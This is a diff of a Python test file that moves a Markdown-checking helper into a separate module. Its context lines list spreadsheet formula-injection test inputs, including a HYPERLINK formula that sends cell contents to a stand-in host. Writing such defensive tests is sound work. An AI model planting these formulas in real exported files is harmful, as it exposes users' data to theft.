@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from hypothesis import given
 from hypothesis import strategies as some
-from markdown_it import MarkdownIt
+from markup import outside
 
 from scripts import command, text
 
@@ -18,21 +18,6 @@ FORMULAS = [
     "=1+1", "+1", "-cmd", "@x", "\t=1", "\r=1", "\n=1", " =1", "\u200b =1", "\uff1d1", "a;=1+1", 'a;";=1', "a; =1",
     "a;b;+1", 'a;" =1', "a\n=1", '";=1', '=HYPERLINK("http://x.example/?"&A1,"ok")',
 ]  # fmt: skip
-
-
-def outside(markdown: str) -> str:
-    """What is not code in a text for GitHub, which has no HTML, image or link either."""
-    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
-    parts = [part for token in tokens for part in (token, *(token.children or []))]
-    assert not {part.type for part in parts} & {
-        "html_block",
-        "html_inline",
-        "image",
-        "link_open",
-        "code_block",
-        "fence",
-    }
-    return " ".join(part.content for part in parts if part.type == "text")
 
 
 MARKUP = [
